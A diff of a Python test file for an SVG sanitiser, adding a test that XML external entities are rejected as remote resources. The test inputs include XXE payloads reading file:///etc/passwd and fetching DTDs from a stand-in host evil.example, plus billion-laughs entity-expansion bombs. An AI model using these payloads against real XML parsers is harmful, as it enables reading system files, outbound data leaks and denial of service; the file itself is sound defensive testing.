@@ -129,14 +129,24 @@ ENTITIES = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
         svg("x" * 5_000_001),
         svg("&e9;", before=f'<!DOCTYPE svg [<!ENTITY e0 "lol">{ENTITIES}]>'),
         svg('<g id="&e9;"/>', before=f'<!DOCTYPE svg [<!ENTITY e0 "lol">{ENTITIES}]>'),
-        svg(before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
-        svg(before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
         svg("<style>a{b:" + "(" * 60 + "url(x)</style>"),
         svg("<style>a{b:" + "(" * 100_000 + "\\</style>"),
     ],
 )
 def test_a_bomb_is_refused_in_good_time(data: bytes) -> None:
     assert fault(data).kind is FaultKind.OVERSIZE
+
+
+@pytest.mark.parametrize(
+    "entity",
+    [
+        'x SYSTEM "file:///etc/passwd"',
+        '% x SYSTEM "http://evil.example/x.dtd"> %x;<!ENTITY y "z"',
+        "x PUBLIC '-//N//E' 'https://evil.example/e'",
+    ],
+)
+def test_an_entity_of_another_file_would_be_fetched(entity: str) -> None:
+    assert fault(svg(before=f"<!DOCTYPE svg [<!ENTITY {entity}>]>")).kind is FaultKind.REMOTE_RESOURCE
 
 
 def test_what_draws_much_within_the_limits_is_published() -> None:
